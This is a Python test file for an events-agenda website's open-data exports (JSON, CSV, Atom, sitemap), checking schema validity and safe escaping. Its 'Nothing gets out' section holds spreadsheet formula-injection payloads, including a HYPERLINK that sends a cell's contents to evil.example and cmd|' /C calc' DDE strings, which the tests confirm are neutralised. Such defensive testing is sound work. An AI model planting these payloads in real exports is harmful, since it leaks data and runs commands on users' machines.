"""Open data and feeds, read back with the tools reusers use: extruct for Open Graph,
feedparser for Atom, json, csv and the XML parser for the rest."""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree as ET

import extruct
import feedparser
import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agenda.pipeline import check_site
from tests.conftest import REPO, BuiltSite


def all_slugs(built_site: BuiltSite) -> list[str]:
    content = check_site(built_site.root).content
    assert content is not None
    return sorted(e.slug for e in content.events)


def test_open_graph_and_canonical(built_site):
    html = built_site.read("/evenements/exposition-hiver/")
    og = extruct.extract(html, syntaxes=["opengraph"], uniform=True)["opengraph"][0]
    assert og["og:title"] == "Exposition : la lumière en hiver"
    assert og["og:url"] == "https://agenda.example.org/evenements/exposition-hiver/"
    # Its own picture is an SVG, which social networks do not show: a drawn PNG instead.
    assert og["og:image"] == "https://agenda.example.org/evenements/exposition-hiver/partage.png"
    assert (
        '<link rel="canonical" href="https://agenda.example.org/evenements/exposition-hiver/">'
        in html
    )


def test_events_json_holds_every_event_with_timings(built_site):
    data = json.loads((built_site.out / "evenements.json").read_text(encoding="utf-8"))
    assert data["licence"]["name"].startswith("Licence Ouverte")
    slugs = [e["slug"] for e in data["events"]]
    assert sorted(slugs) == all_slugs(built_site)
    by_slug = {e["slug"]: e for e in data["events"]}
    cycle = by_slug["cycle-trois-seances"]
    assert [t["begin"] for t in cycle["timings"]] == [
        "2027-01-09T10:00:00+01:00",
        "2027-01-16T10:00:00+01:00",
        "2027-01-23T10:00:00+01:00",
    ]
    assert cycle["registration"] == {"type": "phone", "value": "03 29 00 00 00"}
    assert cycle["location"]["departementCode"] == "88"
    assert cycle["age"] == {"min": 8, "max": 12}
    assert len(by_slug["exposition-hiver"]["timings"]) == 70  # one per opening slot
    assert by_slug["exposition-hiver"]["accessibility"] == {
        "mi": True,
        "hi": False,
        "vi": False,
        "pi": False,
        "ii": False,
    }
    assert by_slug["webinaire-en-ligne"]["location"] is None
    assert by_slug["webinaire-en-ligne"]["attendanceMode"] == "online"
    day = by_slug["journee-portes-ouvertes"]["timings"][0]
    assert day == {"begin": "2027-02-06", "end": "2027-02-06", "allDay": True, "uid": day["uid"]}


def test_atom_feed_is_valid_and_titles_carry_the_date(built_site):
    feed = feedparser.parse((built_site.out / "feed.xml").read_bytes())
    assert not feed.bozo, feed.get("bozo_exception")
    assert feed.feed.title == "Agenda CSTI Grand Est"
    assert len(feed.entries) == 17
    titles = {e.title for e in feed.entries}
    assert "samedi 9 janvier 2027 – Cycle : trois samedis d'astronomie" in titles
    for entry in feed.entries:
        assert entry.link.startswith("https://agenda.example.org/evenements/")
        assert entry.id.startswith("urn:uuid:")


def test_sitemap_lists_indexable_pages_that_exist(built_site):
    root = ET.fromstring((built_site.out / "sitemap.xml").read_bytes())
    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    locations = [loc.text for loc in root.findall("s:url/s:loc", ns)]
    assert "https://agenda.example.org/" in locations
    assert "https://agenda.example.org/404.html" not in locations
    for location in locations:
        path = location.removeprefix("https://agenda.example.org")
        assert built_site.read(path)


def _schema(name: str) -> dict:
    return json.loads((REPO / "schemas" / name).read_text(encoding="utf-8"))


def test_events_json_validates_against_the_shipped_schema(built_site):
    data = json.loads((built_site.out / "evenements.json").read_text(encoding="utf-8"))
    jsonschema.validate(
        data, _schema("evenements.schema.json"), format_checker=jsonschema.FormatChecker()
    )


def test_the_schema_rejects_a_broken_record(built_site):
    data = json.loads((built_site.out / "evenements.json").read_text(encoding="utf-8"))
    data["events"][0]["status"] = "annulé"
    del data["events"][1]["timings"]
    errors = list(
        jsonschema.Draft202012Validator(_schema("evenements.schema.json")).iter_errors(data)
    )
    assert len(errors) == 2


def test_venues_json_validates_and_lists_every_venue(built_site):
    data = json.loads((built_site.out / "lieux.json").read_text(encoding="utf-8"))
    jsonschema.validate(
        data, _schema("lieux.schema.json"), format_checker=jsonschema.FormatChecker()
    )
    assert [v["slug"] for v in data["venues"]] == [
        "mediatheque-epinal",
        "nef-mulhouse",
        "salle-sedan",
    ]
    assert data["venues"][1]["accessibility"]["mi"] is True


@pytest.mark.parametrize(
    "name",
    [
        "evenements.json",
        "lieux.json",
        "evenements-openagenda.json",
        "catalogue.jsonld",
        "donnees/index-evenements.json",
    ],
)
def test_json_files_are_compact_utf8_in_a_fixed_key_order(built_site, name):
    """No indentation (10,000 events made a 50 MB evenements.json), accents as written."""
    raw = (built_site.out / name).read_text(encoding="utf-8")
    compact = json.dumps(json.loads(raw), ensure_ascii=False, separators=(",", ":"))
    assert raw.rstrip("\n") == compact
    assert "\\u00e9" not in raw


def test_two_builds_write_the_same_open_data(built_site, tmp_path):
    from tests.conftest import build_fixture

    again = tmp_path / "_site"
    build_fixture(built_site.root, again)
    for name in ("evenements.json", "lieux.json", "evenements-openagenda.json", "catalogue.jsonld"):
        assert (again / name).read_bytes() == (built_site.out / name).read_bytes(), name


def test_events_csv_has_one_row_per_session_in_utf8(built_site):
    text = (built_site.out / "evenements.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    by_slug: dict[str, list[dict]] = {}
    for row in rows:
        by_slug.setdefault(row["slug"], []).append(row)
    assert len(by_slug) == 17
    assert [r["begin"] for r in by_slug["cycle-trois-seances"]] == [
        "2027-01-09T10:00:00+01:00",
        "2027-01-16T10:00:00+01:00",
        "2027-01-23T10:00:00+01:00",
    ]
    assert len(by_slug["exposition-hiver"]) == 70
    first = by_slug["atelier-markdown-piege"][0]
    assert first["title"].startswith("Sciences, jeux ; et \\ défis")
    assert first["departement_code"] == "08" and first["postal_code"] == "08200"
    assert by_slug["webinaire-en-ligne"][0]["venue_slug"] == ""


def test_touring_event_gives_each_timing_and_csv_row_its_venue(built_site):
    data = json.loads((built_site.out / "evenements.json").read_text(encoding="utf-8"))
    record = next(e for e in data["events"] if e["slug"] == "conference-itinerante")
    assert record["location"]["slug"] == "nef-mulhouse"  # the first venue visited
    assert [
        (t["location"]["slug"], t["location"]["departementCode"]) for t in record["timings"]
    ] == [
        ("nef-mulhouse", "68"),
        ("mediatheque-epinal", "88"),
    ]
    # A single-venue event keeps its timings as they were.
    cycle = next(e for e in data["events"] if e["slug"] == "cycle-trois-seances")
    assert all("location" not in t for t in cycle["timings"])
    text = (built_site.out / "evenements.csv").read_bytes().decode("utf-8")
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["slug"] == "conference-itinerante"]
    assert [(r["begin"][:10], r["venue_slug"], r["city"], r["departement_code"]) for r in rows] == [
        ("2027-02-05", "nef-mulhouse", "Mulhouse", "68"),
        ("2027-02-12", "mediatheque-epinal", "Épinal", "88"),
    ]


def expected_csv_rows(record: dict) -> list[dict[str, str]]:
    """The CSV rows of one evenements.json record, each cell cleaned on its own."""
    from agenda.exports import NUMERIC_CSV_COLUMNS, csv_text

    def cell(value: object) -> str:
        if value is None:
            return ""
        if isinstance(value, bool):
            return "oui" if value else "non"
        return str(value)

    rows = []
    for timing in record["timings"]:
        place = (timing["location"] if "location" in timing else record["location"]) or {}
        values = {
            "slug": record["slug"],
            "title": record["title"],
            "status": record["status"],
            "begin": timing["begin"],
            "end": timing["end"],
            "all_day": timing["allDay"],
            "uid": timing["uid"],
            "attendance_mode": record["attendanceMode"],
            "online_link": record["onlineAccessLink"],
            "venue_slug": place.get("slug"),
            "venue_name": place.get("name"),
            "address": place.get("address"),
            "postal_code": place.get("postalCode"),
            "city": place.get("city"),
            "departement_code": place.get("departementCode"),
            "departement": place.get("departement"),
            "latitude": place.get("latitude"),
            "longitude": place.get("longitude"),
            "organizer": record["organizer"]["name"],
            "partners": " | ".join(p["name"] for p in record["partners"]),
            "themes": " | ".join(record["themes"]),
            "format": record["format"],
            "audience": " | ".join(record["audience"]),
            "age_min": record["age"]["min"],
            "age_max": record["age"]["max"],
            "conditions": record["conditions"],
            "free": record["free"],
            "registration": record["registration"]["value"] if record["registration"] else "",
            "accessibility": " | ".join(c for c, on in record["accessibility"].items() if on),
            "url": record["url"],
            "ics": record["ics"],
        }
        rows.append(
            {
                name: cell(value) if name in NUMERIC_CSV_COLUMNS else csv_text(cell(value))
                for name, value in values.items()
            }
        )
    return rows


def test_every_csv_row_is_its_json_timing_with_each_cell_cleaned(built_site):
    # Each event's cells are cleaned once and shared by its rows (an exhibition has 70):
    # every row must still hold its own timing and its own venue (touring, online).
    data = json.loads((built_site.out / "evenements.json").read_text(encoding="utf-8"))
    text = (built_site.out / "evenements.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    expected = [row for record in data["events"] for row in expected_csv_rows(record)]
    assert rows == expected
    assert len({r["slug"] for r in rows}) == 17 and len(rows) > 70


def test_csv_cells_neutralise_text_and_keep_numbers():
    from agenda.exports import csv_cells

    assert csv_cells(
        {"title": "=1+1", "free": True, "uid": None, "latitude": -1.5, "age_min": None}
    ) == {"title": "'=1+1", "free": "oui", "uid": "", "latitude": "-1.5", "age_min": ""}
    assert csv_cells({"conditions": "Gratuit\r\nsur\x1binscription"}) == {
        "conditions": "Gratuit\nsurinscription"
    }


def test_venues_csv(built_site):
    rows = list(
        csv.DictReader(io.StringIO((built_site.out / "lieux.csv").read_text(encoding="utf-8")))
    )
    assert [r["postal_code"] for r in rows] == ["88000", "68200", "08200"]
    assert rows[2]["name"] == "Salle des fêtes; Sedan"


# Nothing gets out: each payload read back by its real consumer ------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"clic")',
    "organizer": "+cmd|' /C calc'!A0",
    "venue_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "address": "\t=1+1",
    "conditions": "\r=1+1",
    "registration": "=2+5",
}


def formula_catalogue(site):
    from dataclasses import replace

    from tests.test_ical import hostile_catalogue

    catalogue, links, history = hostile_catalogue(site)
    partner = replace(catalogue.partners["la-nef"], name=FORMULAS["organizer"])
    venue = replace(
        catalogue.venues["mediatheque-epinal"],
        name=FORMULAS["venue_name"],
        city=FORMULAS["city"],
        address=FORMULAS["address"],
        access="=1+1",
        phone="+33 3 29 00 00 00",
        url="",
        lon=-1.5,
    )
    event = replace(
        catalogue.events["atelier"],
        title=FORMULAS["title"],
        price=FORMULAS["conditions"],
        registration=FORMULAS["registration"],
        online="",
        age_min=8,
    )
    return (
        replace(
            catalogue,
            partners={partner.slug: partner},
            venues={venue.slug: venue},
            events={event.slug: event},
            upcoming=(event,),
            past=(),
        ),
        links,
        history,
    )


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_events_csv_neutralises_formulas_in_text_cells_and_keeps_numbers(site):
    from agenda.exports import NUMERIC_CSV_COLUMNS, events_csv

    catalogue, links, _ = formula_catalogue(site)
    rows = list(csv.DictReader(io.StringIO(events_csv(catalogue, links).decode("utf-8"))))
    assert len(rows) == 2  # one per session: nothing split a row
    for row in rows:
        for column, value in row.items():
            if column in NUMERIC_CSV_COLUMNS:
                continue
            assert not value.startswith(FORMULA_START), (column, value)
        assert row["title"] == "'" + FORMULAS["title"]
        assert row["organizer"] == "'" + FORMULAS["organizer"]
        assert row["venue_name"] == "'" + FORMULAS["venue_name"]
        assert row["city"] == "'" + FORMULAS["city"]
        assert row["address"] == "'" + " =1+1"
        assert row["conditions"] == "'" + "\n=1+1"
        assert row["registration"] == "'=2+5"
        assert float(row["longitude"]) == -1.5  # a number stays a number
        assert row["age_min"] == "8"


def test_venues_csv_neutralises_formulas_and_keeps_coordinates(site):
    from agenda.exports import venues_csv

    catalogue, links, _ = formula_catalogue(site)
    rows = list(csv.DictReader(io.StringIO(venues_csv(catalogue, links).decode("utf-8"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["name"] == "'" + FORMULAS["venue_name"]
    assert row["access"] == "'=1+1"
    assert row["phone"] == "'+33 3 29 00 00 00"
    assert row["longitude"] == "-1.5" and float(row["latitude"]) > 0


def test_csv_cells_lose_control_characters_but_stay_one_row(site):
    from agenda.exports import events_csv
    from tests.test_ical import HOSTILE, hostile_catalogue

    catalogue, links, _ = hostile_catalogue(site)
    rows = list(csv.reader(io.StringIO(events_csv(catalogue, links).decode("utf-8"))))
    assert len(rows) == 3 and len({len(r) for r in rows}) == 1
    title = rows[1][1]
    assert "\x1b" not in title and "\x00" not in title and "\ufffe" not in title
    assert title.startswith("Nef")
    assert HOSTILE.startswith("Nef")


def test_atom_feed_with_hostile_text_is_well_formed_xml(site):
    from agenda.exports import atom_feed
    from agenda.text import xml_text
    from tests.test_ical import HOSTILE, hostile_catalogue

    catalogue, links, history = hostile_catalogue(site)
    data = atom_feed(catalogue, links, history)
    root = ET.fromstring(data)  # raises on any character XML 1.0 forbids
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert len(root.findall("a:entry", ns)) == 1
    feed = feedparser.parse(data)
    assert not feed.bozo, feed.get("bozo_exception")
    assert len(feed.entries) == 1
    summary = root.find("a:entry/a:summary", ns)
    assert summary is not None and summary.text == xml_text(HOSTILE)
    title = root.find("a:entry/a:title", ns)
    assert title is not None and title.text is not None
    assert title.text.endswith(" – " + xml_text(HOSTILE))
    assert feed.entries[0].summary == xml_text(HOSTILE)
    assert root.find("a:title", ns).text == xml_text(HOSTILE)


def test_sitemap_with_hostile_paths_is_well_formed_xml():
    from agenda.exports import sitemap_xml
    from agenda.urls import Links

    data = sitemap_xml(["/evenements/a\x00b\x1b/", "/x\ufffe/"], Links("https://example.org"))
    root = ET.fromstring(data)
    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    assert [loc.text for loc in root.findall("s:url/s:loc", ns)] == [
        "https://example.org/evenements/ab/",
        "https://example.org/x/",
    ]


def test_open_data_json_carries_hostile_text_as_data(site):
    from dataclasses import replace

    from agenda.exports import events_json, venues_json
    from tests.test_ical import HOSTILE, hostile_catalogue

    catalogue, links, _ = hostile_catalogue(site)
    document = json.loads(events_json(catalogue, links))
    assert [e["title"] for e in document["events"]] == [HOSTILE]
    assert json.loads(venues_json(catalogue, links))["venues"][0]["name"] == HOSTILE
    # A lone surrogate (refused by validation) is replaced, not a crash.
    event = replace(catalogue.events["atelier"], title="a\ud800b")
    broken = replace(catalogue, events={"atelier": event}, upcoming=(event,), past=())
    assert json.loads(events_json(broken, links))["events"][0]["title"] == "a?b"


@settings(max_examples=300, deadline=None)
@given(text=st.text())
def test_any_text_is_one_safe_csv_cell_and_well_formed_xml(text):
    from agenda.exports import csv_text
    from agenda.text import xml_text

    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([csv_text(text), "1.5"])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row[1] == "1.5"
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    element = ET.Element("summary")
    element.text = xml_text(text)
    element.set("label", xml_text(text))
    parsed = ET.fromstring(ET.tostring(element, encoding="utf-8"))
    assert parsed.text in (xml_text(text), None)
    assert parsed.get("label") == xml_text(text)


def test_a_carriage_return_reads_back_as_written_in_xml():
    from agenda.text import xml_text

    element = ET.Element("t")
    element.text = xml_text("a\rb\r\nc")
    assert ET.fromstring(ET.tostring(element)).text == "a\nb\nc"
